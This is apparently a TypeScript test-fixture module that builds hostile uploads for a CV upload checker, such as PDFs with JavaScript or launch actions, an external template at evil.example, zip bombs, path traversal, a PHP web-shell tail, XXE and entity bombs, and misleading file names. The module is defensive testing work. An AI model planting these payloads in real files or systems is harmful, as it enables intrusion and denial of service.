import { crc32, deflateRawSync, deflateSync } from 'node:zlib'

// Files as people and attackers send them, made byte by byte.

const scannerTest = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('-')

/** A PDF of one empty page, with more objects or a tail if wanted. */
export function pdf({ objects = '', trailer = '', tail = '', head = '' } = {}): Buffer {
  return Buffer.from(
    `${head}%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n` +
      `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n${objects}` +
      `xref\n0 1\n0000000000 65535 f \ntrailer<</Size 4/Root 1 0 R${trailer}>>\nstartxref\n9\n%%EOF\n${tail}`,
    'latin1',
  )
}

function compressedObjects(objects: string): string {
  const packed = deflateSync(objects).toString('latin1')
  return `9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n${packed}\nendstream endobj\n`
}

interface ZipEntry {
  name: string
  content: string | Buffer
  /** Size that the table of contents claims, when it is false. */
  size?: number
}

/** An archive, compressed. */
export function zip(entries: readonly ZipEntry[]): Buffer {
  const bodies: Buffer[] = []
  const list: Buffer[] = []
  let offset = 0
  for (const { name, content, size } of entries) {
    const plain = Buffer.from(content)
    const packed = deflateRawSync(plain)
    const title = Buffer.from(name)
    const facts = Buffer.alloc(20)
    facts.writeUInt16LE(20, 0)
    facts.writeUInt16LE(8, 4)
    facts.writeUInt32LE(crc32(plain), 10)
    facts.writeUInt32LE(packed.length, 14)
    const common = Buffer.concat([
      facts.subarray(0, 18),
      number(size ?? plain.length, 4),
      number(title.length, 2),
      number(0, 2),
    ])
    const body = Buffer.concat([Buffer.from('PK\x03\x04'), common, title, packed])
    bodies.push(body)
    list.push(
      Buffer.concat([Buffer.from('PK\x01\x02'), number(20, 2), common, Buffer.alloc(10), number(offset, 4), title]),
    )
    offset += body.length
  }
  const directory = Buffer.concat(list)
  return Buffer.concat([
    ...bodies,
    directory,
    Buffer.from('PK\x05\x06'),
    number(0, 4),
    number(entries.length, 2),
    number(entries.length, 2),
    number(directory.length, 4),
    number(offset, 4),
    number(0, 2),
  ])
}

function number(value: number, bytes: number): Buffer {
  const buffer = Buffer.alloc(bytes)
  buffer.writeUIntLE(value, 0, bytes)
  return buffer
}

const wordMain = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'

/** A Word document with these parts added, or of another type. */
export function docx(more: readonly ZipEntry[] = [], type = wordMain): Buffer {
  return zip([
    {
      name: '[Content_Types].xml',
      content: `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`,
    },
    { name: 'word/document.xml', content: '<w:document><w:body><w:p>Lotte Van den Broeck</w:p></w:body></w:document>' },
    ...more,
  ])
}

/** A compound file with empty streams of these names. */
export function ole(names: readonly string[]): Buffer {
  const file = Buffer.alloc(512 * 4)
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(file)
  file.writeUInt16LE(0x3e, 24)
  file.writeUInt16LE(3, 26)
  file.writeUInt16LE(0xff_fe, 28)
  file.writeUInt16LE(9, 30)
  file.writeUInt16LE(6, 32)
  file.writeUInt32LE(1, 44)
  file.writeUInt32LE(1, 48)
  file.fill(0xff, 76, 512)
  file.writeUInt32LE(0, 76)
  // The table of sectors: itself, then the two of the directory.
  file.fill(0xff, 512, 1024)
  file.writeUInt32LE(0xff_ff_ff_fd, 512)
  file.writeUInt32LE(2, 516)
  file.writeUInt32LE(0xff_ff_ff_fe, 520)
  for (const [index, name] of ['Root Entry', ...names].entries()) {
    const at = 1024 + index * 128
    file.write(name, at, 'utf16le')
    file.writeUInt16LE((name.length + 1) * 2, at + 64)
    file[at + 66] = index === 0 ? 5 : 2
  }
  return file
}

function brokenChain(): Buffer {
  const file = ole(['WordDocument'])
  file.writeUInt32LE(1, 516)
  return file
}

export type Attack = { what: string; name: string; bytes: Buffer; reason: string }

/** Files nobody applies for a job with, and what each is refused for. */
export function hostileFiles(): Attack[] {
  const attack = (what: string, name: string, bytes: Buffer | string, reason: string): Attack => ({
    what,
    name,
    reason,
    bytes: Buffer.from(bytes),
  })
  const program = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff', 'latin1'), Buffer.alloc(600)])
  const rels = (target: string) =>
    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`
  return [
    attack('a program', 'cv.exe', program, 'file-type'),
    attack('a program called a PDF', 'cv.pdf', program, 'file-type'),
    attack('a program behind a second ending', 'cv.pdf.exe', program, 'file-type'),
    attack('a page called a PDF', 'cv.pdf', '<!doctype html><script>alert(1)</script>', 'file-damaged'),
    attack(
      'a drawing with a script',
      'cv.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      'file-type',
    ),
    attack('nothing', 'cv.pdf', '', 'file-empty'),
    attack('a PDF cut off', 'cv.pdf', pdf().subarray(0, 200), 'file-damaged'),
    attack('a PDF behind something else', 'cv.pdf', pdf({ head: 'GIF89a' }), 'file-type'),
    attack(
      'a PDF that runs a script',
      'cv.pdf',
      pdf({ objects: '4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n' }),
      'file-unsafe',
    ),
    attack(
      'a PDF that hides how it calls its script',
      'cv.pdf',
      pdf({ objects: '4 0 obj<</S/J#61va#53cript/J#53(x)>>endobj\n' }),
      'file-unsafe',
    ),
    attack(
      'a PDF with its script compressed',
      'cv.pdf',
      pdf({ objects: compressedObjects('4 0 <</S/JavaScript/JS(x)>>') }),
      'file-unsafe',
    ),
    attack(
      'a PDF that starts a program',
      'cv.pdf',
      pdf({ objects: '4 0 obj<</S/Launch/F(cmd.exe)>>endobj\n' }),
      'file-unsafe',
    ),
    attack(
      'a PDF that carries a file',
      'cv.pdf',
      pdf({ objects: '4 0 obj<</Type/EmbeddedFile>>endobj\n' }),
      'file-unsafe',
    ),
    attack('a PDF with a password', 'cv.pdf', pdf({ trailer: '/Encrypt 5 0 R' }), 'file-protected'),
    attack(
      'a PDF that is an archive too',
      'cv.pdf',
      pdf({ tail: zip([{ name: 'a.js', content: 'x' }]).toString('latin1') }),
      'file-damaged',
    ),
    attack('a PDF that hides that it is an archive', 'cv.pdf', pdfInArchiveComment(), 'file-unsafe'),
    attack('the test of virus scanners', 'cv.doc', scannerTest, 'file-unsafe'),
    attack(
      'the test of virus scanners in a document',
      'cv.docx',
      docx([{ name: 'word/a.txt', content: scannerTest }]),
      'file-unsafe',
    ),
    attack('a spreadsheet called a letter', 'cv.doc', ole(['Workbook']), 'file-damaged'),
    attack('an old document with macros', 'cv.doc', ole(['WordDocument', 'Macros', 'VBA']), 'file-unsafe'),
    attack('an old document that never ends', 'cv.doc', brokenChain(), 'file-damaged'),
    attack('any archive called a document', 'cv.docx', zip([{ name: 'a.txt', content: 'x' }]), 'file-damaged'),
    attack('a document with macros', 'cv.docx', docx([{ name: 'word/vbaProject.bin', content: 'x' }]), 'file-unsafe'),
    attack(
      'a document of the kind with macros',
      'cv.docx',
      docx([], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      'file-type',
    ),
    attack(
      'a document with a template from elsewhere',
      'cv.docx',
      docx([{ name: 'word/_rels/settings.xml.rels', content: rels('https://evil.example/t.dotm') }]),
      'file-unsafe',
    ),
    attack(
      'a document with a template from elsewhere, in elements with a prefix',
      'cv.docx',
      docx([
        {
          name: 'word/_rels/settings.xml.rels',
          content: rels('https://evil.example/t.dotm').replaceAll(/<(\/?)R/g, '<$1p:R'),
        },
      ]),
      'file-unsafe',
    ),
    attack(
      'a document that unpacks without end',
      'cv.docx',
      docx([{ name: 'word/a.xml', content: Buffer.alloc(12 * 1024 * 1024) }]),
      'file-unsafe',
    ),
    attack(
      'a document that lies about its size',
      'cv.docx',
      docx([{ name: 'word/a.xml', content: Buffer.alloc(9 * 1024 * 1024), size: 900 }]),
      'file-unsafe',
    ),
    attack(
      'a document of too many parts',
      'cv.docx',
      docx(Array.from({ length: 1200 }, (_, index) => ({ name: `word/${index}.xml`, content: '' }))),
      'file-unsafe',
    ),
    attack(
      'a document that climbs out of its folder',
      'cv.docx',
      docx([{ name: 'word/../../../etc/cron.d/x', content: 'x' }]),
      'file-unsafe',
    ),
    attack(
      'a document with two parts of one name',
      'cv.docx',
      docx([{ name: 'word/document.xml', content: 'x' }]),
      'file-damaged',
    ),
    attack(
      'a document with a tail',
      'cv.docx',
      Buffer.concat([docx(), Buffer.from('<?php system($_GET[0]);')]),
      'file-damaged',
    ),
    attack('a name that climbs out of its folder', '../../etc/passwd.pdf', pdf(), 'file-name'),
    attack('a name of Windows that does', '..\\..\\autorun.pdf', pdf(), 'file-name'),
    attack('a name that ends early', 'cv.exe\0.pdf', pdf(), 'file-name'),
    attack('a name that reads backwards', 'cv\u202efdp.exe.pdf', pdf(), 'file-name'),
    attack('an endless name', `${'a'.repeat(300)}.pdf`, pdf(), 'file-name'),
    attack('too large a file', 'cv.pdf', Buffer.alloc(9 * 1024 * 1024, 0x20), 'file-too-large'),
  ]
}

/** The end of the archive names the end of the PDF as its comment, so that each reader finds what it looks for. */
function pdfInArchiveComment(): Buffer {
  const archive = zip([{ name: 'a.js', content: 'x' }])
  const comment = Buffer.from('\n%%EOF\n')
  archive.writeUInt16LE(comment.length, archive.length - 2)
  return Buffer.concat([pdf().subarray(0, -6), archive, comment])
}

/** A PNG of any claimed size with hardly any pixels in it. */
function png(width: number, height: number): Buffer {
  const chunk = (type: string, content: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), content])
    const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(content.length)
    check.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, check])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([8, 2], 8)
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(1_000))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** Files nobody photographs, and what each is refused for. */
export function hostilePictures(): Attack[] {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY b${at} "${`&b${at - 1};`.repeat(10)}">`).join('')
  return [
    { what: 'a picture of billions of pixels', name: 'a.png', bytes: png(60_000, 60_000), reason: 'file-pixels' },
    {
      what: 'a picture without most of its pixels',
      name: 'a.png',
      bytes: png(4_000, 3_000),
      reason: 'picture-damaged',
    },
    {
      what: 'a drawing called a photo',
      name: 'a.png',
      bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      reason: 'picture-damaged',
    },
    {
      what: 'XML of entities of entities',
      name: 'a.jpg',
      bytes: Buffer.from(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b-1 "x">${entities}]><svg>&b8;</svg>`),
      reason: 'file-type',
    },
    {
      what: 'XML that asks for another file',
      name: 'a.jpg',
      bytes: Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>'),
      reason: 'file-type',
    },
    {
      what: 'a moving picture called a photo',
      name: 'a.jpg',
      bytes: Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'),
      reason: 'file-type',
    },
    {
      what: 'the beginning of a photo',
      name: 'a.jpg',
      bytes: Buffer.from('ffd8ffe0', 'hex'),
      reason: 'picture-damaged',
    },
    { what: 'an archive called a photo', name: 'a.jpg', bytes: docx(), reason: 'file-type' },
    { what: 'nothing', name: 'a.jpg', bytes: Buffer.alloc(0), reason: 'file-empty' },
  ]
}
